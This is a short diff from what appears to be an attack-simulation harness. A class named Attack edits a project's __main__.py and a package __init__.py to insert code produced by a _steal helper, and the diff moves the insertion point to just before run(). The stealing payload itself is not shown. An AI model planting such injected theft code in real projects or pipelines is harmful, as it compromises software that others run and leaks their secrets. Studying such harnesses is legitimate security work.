@@ -36,7 +36,7 @@ class Attack:
         """The program, the tools and the lock: everything that a job runs or installs."""
         self._edit(
             "__main__.py",
-            lambda text: text.replace("import pulumi\n", f"import pulumi\n{self._steal('program')}", 1),
+            lambda text: text.replace("\nrun()\n", f"\n{self._steal('program')}\nrun()\n", 1),
         )
         self._edit("ccc_numbers/fleet/__init__.py", lambda text: f"{text}\n{self._steal('command')}")
         self._edit(
